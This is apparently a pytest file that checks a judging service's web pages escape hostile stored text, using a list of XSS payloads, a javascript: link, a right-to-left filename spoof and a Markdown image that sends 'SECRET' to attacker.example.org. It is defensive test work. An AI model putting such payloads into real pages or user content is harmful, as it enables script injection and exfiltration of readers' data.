"""Faults of other tools in showing text on pages, by their case ids, over real HTTP."""

import json
import re
from collections.abc import Iterator
from datetime import timedelta
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
import pytest

from judge_service.annotation.projects import ProjectRequest, open_project
from judge_service.domain.calibration_set import SetCase, Split
from judge_service.domain.case import Case
from judge_service.domain.principal import Role
from judge_service.security.keys import issue
from judge_service.security.sessions import PLAIN_COOKIE, new_session
from judge_service.store.store import utc_now
from judge_service.visible import visible
from tests.browser.site import Site, running
from tests.judge_service.annotation.projects import LEAD
from tests.reported.judged import scripted
from tests.support.waiting import LONG_ENOUGH_S

ANSWERS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</script><svg/onload=alert(1)>",
    "![x](https://attacker.example.org/p?d=SECRET)",
    "[click](javascript:alert(1))",
    "safe \u202etxt.exe",
    "**bold** & <b>",
]
READS = {"src", "href", "action", "formaction", "data", "poster", "srcset", "xlink:href", "ping", "background"}
COPIES = 6
"""Cases with the same answer: enough labels for a report that decides."""


class Shown(HTMLParser):
    """What a page is made of: its text, and everything in it that could run or ask another host."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.text = ""
        self.active: list[str] = []
        self._script: str | None = None
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        self._script = tag if tag in ("script", "style") else None
        if tag == "script" and not given.get("src") and given.get("type") != "application/json":
            self.active.append("inline script")
        if tag in ("img", "iframe", "object", "embed", "base", "style"):
            self.active.append(tag)
        for name, value in attrs:
            foreign = re.match(r"\s*(//|\\|[a-z][a-z0-9+.-]*:)", value or "", re.IGNORECASE)
            if name.startswith("on") or name == "style" or (name in READS and foreign):
                self.active.append(f"{tag} {name}={value}")

    def handle_endtag(self, tag: str) -> None:
        self._script = None

    def handle_data(self, data: str) -> None:
        if self._script is None:
            self.text += data


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    with running(tmp_path_factory.mktemp("pages")) as made:
        yield made


def cases() -> list[dict[str, Any]]:
    return [
        {
            "id": f"{answer} #{copy}",
            "prompt": f"Prompt {answer} {copy}",
            "response_a": f"{answer} {copy}",
            "response_b": f"Other {answer}",
            "source": answer,
        }
        for answer in ANSWERS
        for copy in range(COPIES)
    ]


def lines(rows: list[dict[str, Any]]) -> str:
    return "".join(json.dumps(row) + "\n" for row in rows)


def key(site: Site) -> dict[str, str]:
    made, plain = issue("test", Role.LEAD)
    site.service.store.keys.add(made)
    return {"Authorization": f"Bearer {plain}"}


def person(site: Site, name: str, role: Role) -> httpx.Client:
    """A browser in which somebody is signed in."""
    user = site.person(name, role)
    session, token = new_session(user_id=user.id, key_id=None, now=utc_now(), absolute=timedelta(hours=1))
    site.service.store.users.begin(session)
    headers = {"Accept": "text/html"}
    return httpx.Client(base_url=site.address, headers=headers, cookies={PLAIN_COOKIE: token}, timeout=LONG_ENOUGH_S)


@pytest.fixture(scope="module")
def planted(site: Site) -> dict[str, Any]:
    """The answers as texts of cases, ids, metadata, people, notes, rationales, errors, names of files and projects."""
    service, store = site.service, site.service.store
    with httpx.Client(base_url=site.address, headers=key(site), timeout=LONG_ENOUGH_S) as api:
        assert api.post("/v1/sets", json={"name": "hostile", "rubric": "pairwise@1"}).status_code == 201
        files = {"file": (f"{ANSWERS[0]}.jsonl", lines(cases()).encode())}
        loaded = api.post("/v1/sets/hostile/cases", data={"split": "calibration"}, files=files)
        assert loaded.status_code in (200, 201), loaded.text
        labels = [
            {
                "case_id": case["id"],
                "annotator": annotator,
                "label": "AB"[(place + slot) % 5 == 0],
                "note": f"note {case['source']}",
            }
            for place, case in enumerate(cases())
            for slot, annotator in enumerate(ANSWERS[:2])
        ]
        given = api.post("/v1/sets/hostile/labels", files={"file": ("labels.jsonl", lines(labels).encode())})
        assert given.status_code in (200, 201), given.text
        for answer in ANSWERS:
            service.roster.add(
                scripted(
                    {"order": "AB", "value": {"rationale": f"because {answer}", "verdict": "B"}},
                    name=f"judge-{ANSWERS.index(answer)}",
                    description=f"described {answer}",
                    model=answer,
                )
            )
        assert api.post("/v1/sets/hostile/freeze").status_code == 200
        runs = []
        for place in range(len(ANSWERS)):
            case = {name: text for name, text in cases()[place * COPIES].items() if name != "source"}
            body = {"rubric": "pairwise@1", "judge": f"judge-{place}", "cases": [case]}
            started = api.post("/v1/runs", json=body)
            assert started.status_code == 202, started.text
            runs.append(started.json()["id"])
        store.sets.create("labelling", "pairwise@1")
        made = [
            SetCase(
                case=Case(id=f"l-{i}", input={"prompt": f"P {one}", "response_a": one, "response_b": f"B {one}"}),
                split=Split.DEVELOPMENT,
            )
            for i, one in enumerate(ANSWERS)
        ]
        store.sets.add_cases("labelling@1", made)
        site.person("Ann Example", Role.ANNOTATE)
        projects = []
        for answer in ANSWERS:
            request = ProjectRequest.model_validate(
                {"name": visible(answer), "set": "labelling@1", "annotators": ["Ann Example"], "guidelines": answer}
            )
            projects.append(open_project(store, request, LEAD, seed=1).id)
        for run in runs:
            while api.get(f"/v1/runs/{run}").json()["status"] in ("queued", "running"):
                pass
    return {"runs": runs, "projects": projects}


def check(page: httpx.Response, *texts: str, links: bool = False) -> None:
    """The page shows `texts` as they are, runs nothing, and asks no other host; `links`: it may lead to one."""
    found = Shown(page.text)
    assert [one for one in found.active if not (links and one.startswith("a href=https://"))] == []
    for text in texts:
        assert " ".join(visible(text).split()) in " ".join(found.text.split()), text
    # A field in which a text is changed keeps it exact.
    assert "\u202e" not in re.sub(r"<textarea.*?</textarea>", "", page.text, flags=re.DOTALL)
    assert "<script>alert" not in page.text
    policy = dict(part.strip().split(" ", 1) for part in page.headers["content-security-policy"].split(";"))
    assert policy["default-src"] == "'none'"
    for name, sources in policy.items():
        assert set(sources.split()) <= {"'none'", "'self'", "data:"}, name
    assert "data:" not in policy["script-src"] + policy["style-src"]


def test_case_067_pages_of_runs_and_judgments(site: Site, planted: dict[str, Any]) -> None:
    with person(site, "Lea Example", Role.LEAD) as lead:
        check(lead.get("/runs"))
        for run, answer in zip(planted["runs"], ANSWERS, strict=True):
            check(lead.get(f"/runs/{run}"), f"{answer} #0")
            check(lead.get(f"/runs/{run}/report"))
            [(_, judgment)] = site.service.store.runs.results(run)
            check(lead.get(f"/judgments/{judgment.id}"), f"{answer} #0", answer)
            stored = lead.get(f"/v1/judgments/{judgment.id}").json()
            assert f"because {answer}" in json.dumps(stored, ensure_ascii=False)
            assert stored["case_id"] == f"{answer} #0"


def test_case_067_the_report_of_a_set(site: Site, planted: dict[str, Any]) -> None:
    with person(site, "Lea Example", Role.LEAD) as lead:
        page = lead.get("/reports/hostile@1?wait=true")
        while page.status_code == 202:
            page = lead.get("/reports/hostile@1?wait=true")
        check(page, ANSWERS[0], ANSWERS[1])
        check(lead.get("/reports"))
        kept = lead.get("/reports/hostile@1/report.json").json()
        [found] = [part for part in kept["sections"] if part["id"] == "labels"]
        assert {row["annotator"] for row in found["data"]["annotators"]} == set(ANSWERS[:2])


def test_case_067_error_pages_and_names_that_are_refused(site: Site, planted: dict[str, Any]) -> None:
    with person(site, "Lea Example", Role.LEAD) as lead:
        for answer in ANSWERS:
            for path in ("runs", "reports", "judgments", "projects", "label", "nothing"):
                page = lead.get(f"/{path}/{quote(answer, safe='')}")
                assert 400 <= page.status_code < 500
                check(page)
            check(lead.get("/runs", params={"state": answer}))
    with httpx.Client(base_url=site.address, headers=key(site)) as api:
        for answer in ANSWERS:
            refused = api.post("/v1/sets", json={"name": answer})
            assert refused.status_code == 422
            declared = {
                "name": answer,
                "version": 1,
                "inputs": ["answer"],
                "criteria": [{"name": "c", "text": "Good?", "labels": [{"name": "yes"}, {"name": "no"}]}],
            }
            assert api.post("/v1/rubrics", json=declared).status_code == 422


def test_case_067_labelling(site: Site, planted: dict[str, Any]) -> None:
    with person(site, "Ann Example", Role.ANNOTATE) as ann:
        check(ann.get("/label"), *map(visible, ANSWERS))
        for project, answer in zip(planted["projects"], ANSWERS, strict=True):
            page = ann.get(f"/label/{project}")
            assert page.status_code == 200
            shown = next(one for one in ANSWERS if visible(f"P {one}") in Shown(page.text).text)
            check(page, visible(answer), f"P {shown}", shown, f"B {shown}")
            guidelines = ann.get(f"/label/{project}/guidelines")
            # Guidelines are Markdown of a lead: a link to another host stays one, an image of it is none.
            check(guidelines, links=True)
            assert "![" not in answer or "!x" in Shown(guidelines.text).text
    with person(site, "Lea Example", Role.LEAD) as lead:
        check(lead.get("/projects"), *map(visible, ANSWERS))
        for project, answer in zip(planted["projects"], ANSWERS, strict=True):
            check(lead.get(f"/projects/{project}"), visible(answer), links=True)


def test_case_067_exports_are_unchanged(site: Site, planted: dict[str, Any], tmp_path: Path) -> None:
    with httpx.Client(base_url=site.address, headers=key(site), timeout=LONG_ENOUGH_S) as api:
        text = api.get("/v1/sets/hostile@1/export").text
        rows = {row["id"]: row for row in map(json.loads, text.splitlines())}
        for case in cases():
            mine = rows[case["id"]]
            assert mine["input"] == {name: case[name] for name in ("prompt", "response_a", "response_b")}
            assert mine["metadata"] == {"source": case["source"]}
            assert {label["note"] for label in mine["labels"]} == {f"note {case['source']}"}
            assert [label["annotator"] for label in mine["labels"]] == sorted(ANSWERS[:2])
